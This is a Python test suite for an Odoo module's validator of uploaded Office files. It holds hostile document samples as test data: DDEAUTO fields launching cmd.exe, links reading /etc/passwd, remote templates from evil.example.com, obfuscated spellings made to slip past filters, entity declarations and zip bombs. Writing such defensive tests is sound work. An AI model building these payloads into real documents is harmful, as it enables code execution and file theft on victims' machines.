import io
import zipfile

from odoo.tests import tagged

from ..tools import office_file
from ..tools.office_file import check_office_file
from .common import DocumentCommon, repack

SHEET = "xl/worksheets/sheet1.xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)


@tagged("post_install", "-at_install")
class TestOfficeFiles(DocumentCommon):
    """Files that must not be opened are refused, and the refusal says why."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.xlsx = cls._make_xlsx({"A1": "{{ number }}"})
        cls.docx = cls._make_docx(["{{ number }}"])

    def _refuse(self, text, content, name=""):
        self.assertProblem(text, check_office_file, content, name)

    def test_good_files_are_told_apart_by_what_is_in_them(self):
        self.assertEqual(check_office_file(self.xlsx, "a.xlsx"), "xlsx")
        self.assertEqual(check_office_file(self.docx, "a.docx"), "docx")
        self.assertEqual(check_office_file(self.docx, "wrong.xlsx"), "docx")

    def test_damaged_files(self):
        self._refuse("damaged", b"no zip at all", "a.xlsx")
        self._refuse("damaged", b"", "a.xlsx")
        self._refuse("damaged", self.xlsx[: len(self.xlsx) // 2])
        bent = bytearray(self.xlsx)
        bent[80:140] = bytes(60)
        self._refuse("damaged", bytes(bent))
        self._refuse("is damaged", repack(self.xlsx, {SHEET: "<worksheet><row>"}))
        self._refuse("locked by a password", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))

    def test_another_zip_and_another_ending(self):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr("readme.txt", "hello")
        self._refuse("not a .docx or .xlsx file", stream.getvalue())
        self._refuse("not .pdf", self.docx, "a.pdf")

    def test_macros(self):
        self._refuse("macros (.docm)", self.docx, "a.docm")
        self._refuse("macros (.xlsm)", self.xlsx, "a.xlsm")
        self._refuse("macros (xl/vbaProject.bin)", repack(self.xlsx, {"xl/vbaProject.bin": b"x"}))
        with zipfile.ZipFile(io.BytesIO(self.xlsx)) as archive:
            types = archive.read("[Content_Types].xml").decode()
        kind = "spreadsheetml.sheet.main"
        enabled = types.replace(f"openxmlformats-officedocument.{kind}", "ms-excel.macroEnabled")
        self.assertNotEqual(types, enabled)
        self._refuse("holds macros", repack(self.xlsx, {"[Content_Types].xml": enabled}))

    def test_embedded_objects_and_links_to_other_files(self):
        part = {"word/embeddings/oleObject1.bin": b"x"}
        self._refuse("embedded objects", repack(self.docx, part))
        part = {"xl/externalLinks/externalLink1.xml": b"<a/>"}
        self._refuse("external links", repack(self.xlsx, part))
        for kind, target in (
            ("attachedTemplate", "http://evil.example.com/a.dotm"),
            ("image", "file:///etc/passwd"),
            ("hyperlink", "file:///etc/passwd"),
        ):
            relationship = (
                f'<Relationship Id="rId99" Type="http://x/relationships/{kind}" '
                f'Target="{target}" TargetMode="External"/>'
            )
            part = {"word/_rels/settings.xml.rels": RELATIONSHIPS.format(relationship)}
            self._refuse("refers to another file", repack(self.docx, part))

    def test_web_links_are_fine(self):
        relationship = (
            '<Relationship Id="rId99" Type="http://x/relationships/hyperlink" '
            'Target="https://example.com" TargetMode="External"/>'
        )
        part = {"word/_rels/settings.xml.rels": RELATIONSHIPS.format(relationship)}
        self.assertEqual(check_office_file(repack(self.docx, part)), "docx")

    def test_fields_that_fetch_data(self):
        for code in ('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', 'INCLUDETEXT "/etc/passwd"'):

            def edit(document, code=code):
                run = document.add_paragraph().add_run()
                element = run._r.makeelement(
                    "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instrText", {}
                )
                element.text = code
                run._r.append(element)

            self._refuse("fetches data", self._make_docx(["a"], edit=edit))

    def test_entities(self):
        bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "xxxx">]><a>&b;</a>'
        self._refuse("XML entities", repack(self.docx, {"word/document.xml": bomb}))
        wide = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")
        self._refuse("not in UTF-8", repack(self.docx, {"word/document.xml": wide}))

    def test_parts_are_what_their_content_says(self):
        """The list of content types may call any part a document, whatever its name ends with."""
        part = b'<?xml version="1.0"?><!DOCTYPE a><a/>'
        self._refuse("XML entities", repack(self.docx, {"word/picture.png": part}))
        rows = "".join(f'<row r="{n}"/>' for n in range(1, 6_000))
        sheet = f"<worksheet><sheetData>{rows}</sheetData></worksheet>"
        self._refuse("has 5,999 rows", repack(self.xlsx, {"xl/other/sheet.dat": sheet}))
        wide = '<?xml version="1.0" encoding="IBM037"?><a/>'
        self._refuse("not in UTF-8", repack(self.docx, {"word/document.xml": wide}))
        self._refuse("charts", repack(self.xlsx, {"xl/charts/chart1.xml": "<a/>"}))

    def test_zip_bombs(self):
        bomb = repack(self.docx, {"word/document.xml": b"<a>" + bytes(1 << 24) + b"</a>"})
        self.assertLess(len(bomb), 1 << 20)
        self._refuse("word/document.xml of the file is too large", bomb)
        many = "<w:p/>" * (office_file.ELEMENTS + 1)
        bomb = repack(self.docx, {"word/document.xml": f"<w:document>{many}</w:document>"})
        self._refuse("too large when unpacked", bomb)
        many = {f"word/media/{n}.bin": b"x" for n in range(office_file.PARTS)}
        self._refuse("parts inside", repack(self.docx, many))
        self._refuse("larger than", bytes(office_file.FILE_BYTES + 1))

    def test_a_header_that_lies_about_the_size(self):
        content = bytearray(repack(self.docx, {"word/zero.xml": bytes(1 << 23)}))
        at = content.rfind(b"PK\x01\x02")  # the last entry of the directory
        content[at + 24 : at + 28] = (10).to_bytes(4, "little")
        self._refuse("", bytes(content))

    def test_a_million_empty_rows(self):
        rows = "".join(f'<row r="{n}"/>' for n in range(1, 400_001))
        sheet = f"<worksheet><sheetData>{rows}</sheetData></worksheet>"
        self._refuse("sheet1.xml has 400,000 rows", repack(self.xlsx, {SHEET: sheet}))
        rows = "".join(f'<row r="{n}"/>' for n in range(1, 1_000_001))
        sheet = f"<worksheet><sheetData>{rows}</sheetData></worksheet>"
        self._refuse("sheet1.xml", repack(self.xlsx, {SHEET: sheet}))

    def test_cells_at_the_far_end(self):
        for place, row in (("XFD1048576", 1_048_576), ("XFD20000", 20_000)):
            cells = f'<row r="{row}"><c r="{place}"><v>1</v></c></row>'
            sheet = f"<worksheet><sheetData>{cells}</sheetData></worksheet>"
            self._refuse(f"has {row:,} rows", repack(self.xlsx, {SHEET: sheet}))
        near = self._make_xlsx({"A1": "{{ number }}", "C19999": 1, "XFD9": 1, "Z1048": 1})
        self._refuse("has 19,999 rows", near)
        self.assertEqual(check_office_file(self._make_xlsx({"AB19999": 1})), "xlsx")

    def test_cells_merged_over_the_whole_sheet(self):
        merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        sheet = f"<worksheet><sheetData/>{merged}</worksheet>"
        self._refuse("merges or links too many cells", repack(self.xlsx, {SHEET: sheet}))

    # === THE SAME, SPELLED OTHERWISE === #

    def _with_body(self, body, spaces=""):
        document = f'<w:document xmlns:w="{WORD}" {spaces}><w:body>{body}</w:body></w:document>'
        return repack(self.docx, {"word/document.xml": document})

    def test_links_to_other_files_however_they_are_spelled(self):
        base = 'Type="http://x/attachedTemplate" Target="http://evil.example.com/a.dotm"'
        for relationship in (
            f'<Relationship Id="a>b" {base} TargetMode="External"/>',
            f'<Relationship Id="a" {base} TargetMode="&#69;xternal"/>',
            f'<p:Relationship xmlns:p="urn:p" Id="a" {base} TargetMode="External"/>',
            '<Relationship Id="a" Type="http://x/hyperlink" Target="&#92;&#92;evil&#92;share" '
            'data=" target=\'https:" TargetMode="External"/>',
            f'<Relationship Id="a" {base} foo="/hyperlink target=\'https:" TargetMode="External"/>',
        ):
            with self.subTest(relationship):
                part = {"word/_rels/settings.xml.rels": RELATIONSHIPS.format(relationship)}
                self._refuse("refers to another file", repack(self.docx, part))

    def test_fields_that_fetch_data_however_they_are_spelled(self):
        run = "<w:r><w:instrText>{}</w:instrText></w:r>"
        begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        for body in (
            run.format("DD") + run.format("EAUTO c:\\\\x"),
            run.format("<![CDATA[DDEAUTO c:\\\\x]]>"),
            run.format("&#68;DEAUTO c:\\\\x"),
            run.format("ddeauto excel Sheet1 R1C1"),
            run.format("DDE<!-- -->AUTO excel Sheet1 R1C1"),
            f'<x:instrText xmlns:x="{WORD}">DDEAUTO excel Sheet1</x:instrText>',
            "<w:fldSimple w:instr=' LINK excel'/>",
            begin + begin + run.format("QUOTE 68 68 69"),
            begin + run.format(" ") + begin + run.format("REF a"),
        ):
            with self.subTest(body):
                self._refuse("fetches data", self._with_body(f"<w:p>{body}</w:p>"))

    def test_fields_of_every_day_are_fine(self):
        run = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
        codes = ('TOC \\o "1-3"', 'HYPERLINK "https://x/link import"', "PAGE", "REF dde")
        body = "".join(map(run.format, codes)) + '<w:fldSimple w:instr=" NUMPAGES "/>'
        self.assertEqual(check_office_file(self._with_body(body)), "docx")

    def test_files_within_the_file(self):
        self._refuse("embedded objects", self._with_body('<w:altChunk r:id="a"/>', 'xmlns:r="r"'))
        for kind in ("aFChunk", "oleObject", "package", "control"):
            relationship = f'<Relationship Id="a" Type="http://x/{kind}" Target="a.bin"/>'
            part = {"word/_rels/document.xml.rels": RELATIONSHIPS.format(relationship)}
            with self.subTest(kind):
                self._refuse("embedded objects", repack(self.docx, part))
        picture = '<v:imagedata xmlns:v="v" src="http://evil.example.com/x.png"/>'
        self._refuse("fetches data", self._with_body(f"<w:pict>{picture}</w:pict>"))

    def test_macros_however_they_are_spelled(self):
        with zipfile.ZipFile(io.BytesIO(self.xlsx)) as archive:
            types = archive.read("[Content_Types].xml").decode()
        kind = "application/vnd.ms-office.vba&#80;roject"
        more = f'<Override PartName="/xl/a.bin" ContentType="{kind}"/></Types>'
        types = types.replace("</Types>", more)
        self._refuse("holds macros", repack(self.xlsx, {"[Content_Types].xml": types}))

    def test_rows_in_another_encoding_or_with_another_prefix(self):
        rows = "<a-b:row/>" * 6_000
        sheet = (
            f'<a-b:worksheet xmlns:a-b="x"><a-b:sheetData>{rows}</a-b:sheetData></a-b:worksheet>'
        )
        self._refuse("has 6,000 rows", repack(self.xlsx, {SHEET: sheet}))
        for encoding in ("utf-16-le", "utf-16-be", "utf-32-be"):
            for name in (SHEET, "xl/other.dat"):
                with self.subTest(f"{encoding} {name}"):
                    part = {name: "<worksheet/>".encode(encoding)}
                    self._refuse("not in UTF-8", repack(self.xlsx, part))

    def test_areas_of_rules(self):
        areas = " ".join(f"A{n}" for n in range(1, 100_003))
        sheet = f'<worksheet><sheetData/><conditionalFormatting sqref="{areas}"/></worksheet>'
        self._refuse("too many cells", repack(self.xlsx, {SHEET: sheet}))

    def test_a_program_with_an_archive_behind_it(self):
        self._refuse("damaged", b"MZ" + bytes(500) + self.xlsx, "a.xlsx")
        self._refuse("damaged", b"<script>alert(1)</script>" + self.docx, "a.docx")

    def test_a_part_that_is_there_in_two_spellings(self):
        self._refuse("a part twice", repack(self.docx, {"Word/Document.xml": "<a/>"}))
